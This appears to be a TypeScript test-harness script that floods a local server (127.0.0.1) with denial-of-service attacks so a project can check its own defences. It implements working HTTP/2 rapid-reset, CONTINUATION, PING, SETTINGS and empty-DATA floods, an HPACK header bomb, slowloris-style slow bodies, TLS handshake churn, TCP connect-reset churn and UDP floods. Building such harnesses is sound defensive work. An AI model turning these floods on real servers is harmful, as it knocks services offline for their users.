/**
 * One client that does harm over one connection at a time, as fast as it can, until it is stopped:
 * `node attack.ts KIND PORT`. An attack that ends its connection begins again with another one.
 */
import { createSocket } from 'node:dgram'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { block, flag, frame, frameType, get, headers, uint32 } from '../../test/harness/http2-frames.ts'

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(frameType.settings, 0, 0),
])
const piled = (one: Buffer) =>
  Buffer.concat(Array.from({ length: Math.ceil(16_384 / one.length) }, () => one))

/** What is sent over and over again, after what stands before it. */
interface Flood {
  before?: Buffer
  piece(round: number): Buffer
}

const always = (bytes: Buffer) => () => bytes
/** Thousands of fields, each a byte of the table's: little on the wire, much in memory. */
const bomb = Buffer.concat([
  block(get('/bomb')),
  Buffer.of(0x40, 1, 0x61, 127, 0x81, 30),
  Buffer.alloc(4000, 0x61),
  Buffer.alloc(12_000, 0xbe),
])

const floods: Record<string, Flood> = {
  'rapid reset': {
    piece: (round) =>
      Buffer.concat(
        Array.from({ length: 100 }, (_, n) => {
          const id = (round * 100 + n) * 2 + 1
          return Buffer.concat([headers(id, get('/reset')), frame(frameType.rstStream, 0, id, uint32(8))])
        }),
      ),
  },
  CONTINUATION: {
    before: frame(frameType.headers, flag.endStream, 1, block(get('/endless'))),
    piece: always(frame(frameType.continuation, 0, 1, block([['x-more', 'a'.repeat(15_000)]]))),
  },
  PING: { piece: always(piled(frame(frameType.ping, 0, 0, Buffer.alloc(8)))) },
  SETTINGS: { piece: always(piled(frame(frameType.settings, 0, 0))) },
  'empty DATA': {
    before: headers(1, [[':method', 'POST'], ...get('/empty').slice(1)], 0),
    piece: always(piled(frame(frameType.data, 0, 1))),
  },
  'header bomb': {
    piece: (round) => frame(frameType.headers, flag.endStream | flag.endHeaders, round * 2 + 1, bomb),
  },
}

const attacks: Record<string, (port: number) => void> = {
  ...Object.fromEntries(
    Object.entries(floods).map(([name, flood]) => [name, (port: number) => floodWith(flood, port)]),
  ),
  'slow bodies': slowBodies,
  'TLS handshakes': handshakes,
  'TCP connections': connections,
  datagrams,
}

function floodWith(flood: Flood, port: number): void {
  const socket = connect(port, '127.0.0.1')
  let round = 0
  const send = () => {
    while (!socket.destroyed && socket.writable && socket.write(flood.piece(round++)));
  }
  socket.on('error', () => {})
  socket.on('drain', () => setImmediate(send))
  socket.on('data', () => {})
  socket.on('close', () => setImmediate(floodWith, flood, port))
  socket.write(flood.before === undefined ? preface : Buffer.concat([preface, flood.before]))
  send()
}

/** A thousand requests whose bodies come a byte at a time. */
function slowBodies(port: number): void {
  const sockets = Array.from({ length: 1000 }, () => slowBody(port))
  let turn = 0
  setInterval(() => {
    for (let n = 0; n < 10; n++) {
      const at = turn++ % sockets.length
      if (sockets[at]!.destroyed) sockets[at] = slowBody(port)
      else sockets[at]!.write('a')
    }
  }, 1)
}

function slowBody(port: number): Socket {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  socket.on('data', () => {})
  socket.write('POST /slow HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n')
  return socket
}

/** A new handshake as soon as one is over. */
function handshakes(port: number): void {
  const socket = connectTls({ port, host: '127.0.0.1', servername: 'bench.test', rejectUnauthorized: false })
  socket.on('error', () => {})
  socket.on('secureConnect', () => socket.destroy())
  socket.on('close', () => setImmediate(handshakes, port))
}

/** Eight at a time that are connected, say nothing and go. */
function connections(port: number): void {
  for (let n = 0; n < 8; n++) connectAndGo(port)
}

function connectAndGo(port: number): void {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  socket.on('connect', () => socket.resetAndDestroy())
  socket.on('close', () => setImmediate(connectAndGo, port))
}

/** From a thousand ports, each of which begins a session. */
function datagrams(port: number): void {
  for (let n = 0; n < 1000; n++) {
    const socket = createSocket('udp4')
    socket.on('error', () => {})
    const send = () => socket.send('x', port, '127.0.0.1', () => setImmediate(send))
    send()
  }
}

const [kind = '', port] = process.argv.slice(2)
attacks[kind]?.(Number(port))
